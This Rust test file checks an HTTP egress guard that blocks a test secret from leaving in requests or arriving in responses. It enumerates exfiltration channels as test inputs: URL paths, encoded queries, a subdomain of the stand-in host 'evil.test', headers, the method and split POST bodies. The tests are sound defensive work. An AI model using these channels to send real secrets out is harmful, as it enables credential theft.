//! Secrets on their way out and in, whole, hidden and split.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::Router;
use axum::routing::any;
use tokio::io::AsyncWriteExt;
use wirken_egress::{Direction, Egress, Error, Options};

use crate::support::*;

async fn counting() -> (std::net::SocketAddr, Arc<AtomicUsize>) {
    let count = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&count);
    let server = serve(Router::new().fallback(any(move || {
        counter.fetch_add(1, Ordering::SeqCst);
        async { "ok" }
    })))
    .await;
    (server, count)
}

fn leak(encoding: &'static str, direction: Direction) -> Error {
    Error::Leak { label: "mail/key".to_owned(), encoding, direction }
}

fn guarded() -> Egress {
    Egress::new(Options { scanner: scanner(), ..Options::default() })
}

#[tokio::test]
async fn a_secret_anywhere_in_a_request_stops_it() {
    let (server, count) = counting().await;
    let url = format!("http://{server}/");
    let (first, second) = SECRET.as_bytes().split_at(9);
    let encoded: String = SECRET.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let requests = [
        get(format!("{url}{SECRET}")),
        get(format!("{url}?q={SECRET}")),
        get(format!("{url}?q={encoded}")),
        get(format!("{url}?q={}", encoded.replace("%2d", "-"))),
        get(format!("https://{SECRET}.evil.test/")),
        get(format!("data:,{SECRET}")),
        with_header(get(&url), "x-debug", SECRET),
        with_header(get(&url), SECRET, "1"),
        with_header(get(&url), "authorization", &format!("Bearer {SECRET}")),
        naming(get(&url), SECRET),
        post(&url, &[SECRET.as_bytes()]),
        post(&url, &[b"{\"key\":\"", SECRET.as_bytes(), b"\"}"]),
        post(&url, &[first, second]),
        post(&url, &[b"x", first, b"", second, b"y"]),
        wirken_types::http::Request { method: SECRET.to_owned(), ..get(&url) },
    ];
    for request in requests {
        let error = guarded().send(request.clone(), at(server)).await.expect_err("a leak");
        assert!(matches!(&error, Error::Leak { label, direction: Direction::Outgoing, .. } if label == "mail/key"), "{request:?}: {error}");
        assert_eq!((error.kind(), error.sent()), ("leak", false));
        assert!(!error.to_string().contains(SECRET));
    }
    assert_eq!(count.load(Ordering::SeqCst), 0, "nothing was sent");
}

#[tokio::test]
async fn the_credential_in_its_place_is_no_leak() {
    let (server, count) = counting().await;
    let authority = bound(at(server), "key", "bearer", SECRET);
    assert_eq!(text(&guarded(), naming(get(format!("http://{server}/")), "key"), authority).await.1, "ok");
    assert_eq!(count.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn a_secret_in_the_head_of_a_response_goes_no_further() {
    let server = serve(Router::new().fallback(any(|| async { ([("x-echo", SECRET)], "ok") }))).await;
    let error = guarded().send(get(format!("http://{server}/")), at(server)).await.expect_err("a leak");
    assert_eq!(error, leak("plain", Direction::Incoming));
    assert!(error.sent());
}

#[tokio::test]
async fn a_secret_in_the_body_of_a_response_goes_no_further_however_it_is_split() {
    for split in 0..=SECRET.len() {
        let server = raw(move |mut stream, _| async move {
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n").await;
            let (first, second) = SECRET.split_at(split);
            for piece in ["harmless ", first, second, " tail"] {
                if !piece.is_empty() {
                    let _ = stream.write_all(format!("{:x}\r\n{piece}\r\n", piece.len()).as_bytes()).await;
                    let _ = stream.flush().await;
                    tokio::time::sleep(std::time::Duration::from_millis(3)).await;
                }
            }
            let _ = stream.write_all(b"0\r\n\r\n").await;
        })
        .await;
        let mut response = guarded().send(get(format!("http://{server}/")), at(server)).await.expect("a head");
        let mut seen = Vec::new();
        let error = loop {
            match response.next_chunk().await {
                Ok(Some(chunk)) => seen.extend_from_slice(&chunk),
                Ok(None) => panic!("split at {split}: not found"),
                Err(error) => break error,
            }
        };
        assert_eq!(error, leak("plain", Direction::Incoming));
        assert!(b"harmless ".starts_with(&seen), "split at {split}: {:?}", String::from_utf8_lossy(&seen));
        assert_eq!(response.next_chunk().await.expect_err("still").kind(), "leak");
    }
}

#[tokio::test]
async fn what_almost_is_a_secret_passes_whole() {
    let almost = &SECRET[..SECRET.len() - 1];
    let server = serve(Router::new().fallback(any(move || async move { format!("{almost}\n{almost}") }))).await;
    assert_eq!(text(&guarded(), get(format!("http://{server}/")), at(server)).await.1, format!("{almost}\n{almost}"));
}

#[tokio::test]
async fn a_compressed_response_cannot_be_searched_and_goes_no_further() {
    let server = canned(b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 1\r\n\r\nx").await;
    assert_eq!(refusal(&guarded(), get(format!("http://{server}/")), at(server)).await.0, "protocol");
    let server = canned(b"HTTP/1.1 200 OK\r\ncontent-encoding: identity\r\ncontent-encoding: gzip\r\ncontent-length: 1\r\n\r\nx").await;
    assert_eq!(refusal(&guarded(), get(format!("http://{server}/")), at(server)).await.0, "protocol");
    let server = canned(b"HTTP/1.1 200 OK\r\ncontent-encoding: Identity\r\ncontent-length: 1\r\n\r\nx").await;
    assert_eq!(text(&guarded(), get(format!("http://{server}/")), at(server)).await.1, "x");
}

#[tokio::test]
async fn a_new_scanner_takes_effect_with_the_next_request() {
    let (server, _) = counting().await;
    let egress = egress();
    let request = || post(format!("http://{server}/"), &[SECRET.as_bytes()]);
    assert_eq!(text(&egress, request(), at(server)).await.1, "ok");
    egress.set_scanner(scanner());
    assert_eq!(refusal(&egress, request(), at(server)).await.0, "leak");
}
